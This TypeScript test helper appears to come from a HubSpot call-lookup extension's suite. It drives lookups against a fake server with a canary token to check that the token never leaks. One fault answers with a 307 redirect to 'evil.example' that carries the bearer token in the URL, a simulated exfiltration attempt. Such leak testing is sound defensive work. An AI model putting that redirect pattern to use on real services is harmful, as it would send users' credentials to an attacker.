import type { AccountCheck } from '../../../src/calls/accountCheck';
import type { AssociationsState } from '../../../src/calls/callAssociations';
import type { IdSource } from '../../../src/calls/idSource';
import type { Lookup } from '../../../src/calls/lookup';
import { ResultsFeed } from '../../../src/features/results/resultsFeed';
import { FetchTransport } from '../../../src/hubspot/transports/fetchTransport';
import { parseCurl } from '../../../src/inputs/curl/parseCurl';
import { parseCallIds } from '../../../src/inputs/ids/parseCallIds';
import type { ParsedIds } from '../../../src/inputs/ids/parsedIds';
import { createServices } from '../../../src/services/createServices';
import { buildPorts, type TestPorts } from '../builders/buildPorts';
import { buildSources } from '../builders/buildSources';
import { promptTiming } from '../builders/promptTiming';
import type { Fault } from '../hubspot/fault';
import { faults } from '../hubspot/faults';
import { startHubSpotServer, type HubSpotServer } from '../hubspot/hubspotServer';
import { canaryToken, tokenMark, wrapCanaryToken } from './canaries';
import { createCanaryPortal } from './canaryPortal';

/** What came of one run of everything that can be done without VS Code. */
export interface CanaryRun {
  /** What one of the calls is associated with. */
  readonly associated: AssociationsState;
  /** Whose token it is and what it may do. */
  readonly check: AccountCheck;
  readonly lookups: readonly Lookup[];
  /** All that results panels were sent. */
  readonly messages: readonly unknown[];
  readonly ports: TestPorts;
  /** As the server got them. */
  readonly requests: HubSpotServer['requests'];
}

/**
 * Looks up canary calls with the canary token over real HTTP, in every way there is and through every kind of failure, with the token
 * among the IDs, in a cURL command and in what the server answers.
 */
export async function runEveryWay(): Promise<CanaryRun> {
  const server = await startHubSpotServer({ token: canaryToken, portal: createCanaryPortal() });
  const options = { baseUrl: server.url, timeoutMs: 10_000, userAgent: 'test' };
  const ports = buildPorts(new FetchTransport(() => options));
  const services = createServices(ports, promptTiming);
  const { accounts, associations, checks, knowledge, lookups, memory, store } = services;
  const followed = knowledge.follow(store);
  const messages: unknown[] = [];
  const feeds = new Map<string, ResultsFeed>();
  store.onDidChange(({ id }) => {
    const lookup = store.get(id);
    const feed = feeds.get(id);
    if (lookup !== undefined && feed !== undefined) {
      feed.update(lookup);
    } else if (lookup !== undefined) {
      feeds.set(id, openFeed(lookup, messages));
    }
  });

  const curl = parseCurl(
    `curl https://api.hubapi.com/crm/v3/objects/calls/batch/read -H 'Authorization: Bearer ${canaryToken}' -d '{"inputs":[{"id":"430001"}]}'`,
  );
  const account = await accounts.add('Canary account', curl?.token ?? wrapCanaryToken());
  await accounts.replaceToken(account.id, wrapCanaryToken());
  const check = await checks.check(account, new AbortController().signal);
  const parsed = parseCallIds(`430001, 430010, 430404, ${canaryToken}, 1.2E+5`);
  const { ids, problems: invalid } = parsed;
  const input = {
    ids: ids.map(({ text }) => text),
    invalid,
    options: { properties: ['hs_call_title'], propertiesWithHistory: [], archived: false },
    account,
    sources: [sourceOf(parsed)],
  };
  const first = await lookups.run(input);
  const known = new Promise(resolve => associations.onDidChange(resolve));
  associations.open(first, '430001');
  await known;
  const associated = associations.get(account, '430001');
  await lookups.recheckArchived(first);
  await lookups.refresh(first);
  await lookups.run({ ...input, options: { ...input.options, archived: true } });
  const history = { ...input.options, propertiesWithHistory: ['hs_call_title'] };
  await lookups.run({ ...input, options: history });
  for (const fault of [...[200, 207, 400, 401, 403, 502].map(echo), moved, ...refusals]) {
    let isFailing = true;
    server.fail(fault, { times: Infinity, when: () => isFailing });
    await lookups.run(input);
    const failed = await lookups.run(input);
    isFailing = false;
    await lookups.retryFailed(failed);
  }
  feeds.forEach(feed => feed.close());
  await memory.flush();
  followed.dispose();
  const requests = [...server.requests, ...server.companions];
  await server.close();
  return { associated, check, lookups: store.list(), messages, ports, requests };
}

/** A file of one line that all of it was read from. */
function sourceOf({ ids, problems }: ParsedIds): IdSource {
  return {
    uri: 'file:///ids.txt',
    kind: 'file',
    places: ids.map(({ start, text }) => ({ id: text, line: 0, character: start })),
    unreadable: problems.map(({ reason, start, text }) => ({
      text,
      reason,
      line: 0,
      character: start,
    })),
  };
}

/** A results panel that is always ready for more. */
function openFeed(lookup: Lookup, messages: unknown[]): ResultsFeed {
  const feed: ResultsFeed = new ResultsFeed(lookup, buildSources, message => {
    messages.push(structuredClone(message));
    queueMicrotask(() => feed.shown(message.number));
  });
  feed.open('json');
  return feed;
}

const refusals = [
  faults.invalidToken,
  faults.missingScopes,
  faults.rateLimitedDaily,
  faults.badGatewayHtml,
];

/** Repeats the token wherever an answer has room for it: in the status line, in headers, and in every text of the body. */
function echo(status: number): Fault {
  return ({ request, response }) => {
    const sent = request.headers['authorization'] ?? tokenMark;
    const call = {
      id: '430001',
      properties: { hs_call_title: sent, [sent]: sent },
      createdAt: sent,
    };
    const error = {
      status: sent,
      category: sent,
      message: sent,
      context: { ids: ['430404', sent] },
    };
    const body = { status: sent, results: [call], errors: [error], numErrors: 1 };
    response.writeHead(status, sent, {
      'content-type': 'application/json',
      'x-hubspot-correlation-id': sent,
      'x-echo': sent,
    });
    response.end(JSON.stringify({ ...body, message: sent, category: sent, correlationId: sent }));
  };
}

/** Sends the client elsewhere, with the token in the address. */
const moved: Fault = ({ request, response }) => {
  const sent = request.headers['authorization'] ?? tokenMark;
  response.writeHead(307, { location: `https://evil.example/?${encodeURIComponent(sent)}` }).end();
};
